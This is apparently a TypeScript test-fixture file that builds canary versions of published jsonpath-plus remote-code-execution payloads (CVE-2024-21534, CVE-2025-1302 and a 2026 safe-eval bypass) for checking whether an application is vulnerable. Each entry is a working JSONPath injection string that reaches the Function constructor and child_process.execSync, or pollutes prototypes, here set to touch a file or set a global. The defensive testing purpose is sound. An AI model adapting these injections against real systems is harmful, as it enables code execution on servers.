/**
 * Published jsonpath-plus remote-code-execution payloads, rewritten so that running them leaves a
 * trace we can look for: they create the canary file (`touch`) or set a global canary.
 *
 * Sources (see docs/quality.md):
 * - CVE-2024-21534 (GHSA-pppg-cpfq-h7wr, Snyk SNYK-JS-JSONPATHPLUS-7945884): the original
 *   `@.constructor.constructor(...)` payload, and the bypasses of the 10.0.x fixes published in
 *   JSONPath-Plus issue #226 (`var _$_root=[].constructor.constructor(...)`, `__proto__ = constructor`).
 * - CVE-2025-1302 (GHSA-hw8r-x6gr-5gjp, SNYK-JS-JSONPATHPLUS-8719585): the 10.2.0 bypass via
 *   non-string property names `''[['constructor']][['constructor']](p)`, and the variant used by
 *   the nuclei detection template.
 * - The 2026 safe-eval bypass fixed in jsonpath-plus 10.4.0 ("rce using lookupGetter or
 *   lookupSetter"): payloads in that style reaching `Function` through `__lookupGetter__`.
 *   The exact published text was not retrievable here; these follow the fix's description.
 * - `[?(@ && …)]` / `@.__proto__` forms as used in the advisories' safe-eval tests.
 */
export interface Payload {
  name: string;
  path: string;
}

/** The payloads for a canary file and a global name. */
export function payloads(file: string, globalName = '__foerderregelnPwned'): Payload[] {
  const touch = `process.mainModule.require('child_process').execSync('touch ${file}')`;
  const touchDq = `process.mainModule.require(\\"child_process\\").execSync(\\"touch ${file}\\")`;
  const setGlobal = `globalThis.${globalName}=1`;
  return [
    {
      name: 'CVE-2024-21534 original (@.constructor.constructor)',
      path: `$[?(@.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${file}'))]`,
    },
    {
      name: 'CVE-2024-21534 original, ESM-capable (getBuiltinModule)',
      path: `$[?(@.constructor.constructor('return process')().getBuiltinModule('child_process').execSync('touch ${file}'))]`,
    },
    { name: 'CVE-2024-21534 script expression', path: `$[(this.constructor.constructor("${touchDq}")())]` },
    {
      name: 'CVE-2024-21534 bypass of 10.0.0 (issue #226: var _$_root)',
      path: `$[?(var _$_root=[].constructor.constructor("${touchDq}");@root())]`,
    },
    {
      name: 'CVE-2024-21534 bypass (issue #226: __proto__ = constructor)',
      path: `$[?(__proto__ = 0; __proto__ = constructor; __proto__ = constructor; __proto__("${touchDq}")())]`,
    },
    {
      name: 'CVE-2025-1302 (10.2.0 bypass: non-string property names)',
      path: `$..[?(p="${touch}";a=''[['constructor']][['constructor']](p);a())]`,
    },
    {
      name: 'CVE-2025-1302, ESM-capable (getBuiltinModule)',
      path: `$..[?(p="return process";a=''[['constructor']][['constructor']](p);a().getBuiltinModule('child_process').execSync('touch ${file}'))]`,
    },
    { name: 'CVE-2025-1302 nuclei-template variant', path: `$..[?(EQST=''[['constructor']][['constructor']]('${setGlobal}');EQST())]` },
    { name: 'CVE-2025-1302 style with @ && guard', path: `$..[?(@ && @.constructor && @.constructor.constructor('${setGlobal}')())]` },
    { name: '@.__proto__ style', path: `$..[?(@ && @.__proto__ && (@.__proto__.polluted = 1))]` },
    {
      name: '2026 safe-eval bypass style (__lookupGetter__)',
      path: `$..[?(@ && (g=@['__lookupGetter__']('__proto__'), o=g.call(@), f=o['__lookupGetter__']('constructor'), f && f.call(o)['constructor']('${setGlobal}')()))]`,
    },
    {
      name: '2026 safe-eval bypass style (__lookupSetter__ / __defineGetter__)',
      path: `$..[?(@ && (@.__defineGetter__('x', ''[['constructor']][['constructor']]("${touchDq}")), @.x))]`,
    },
  ];
}
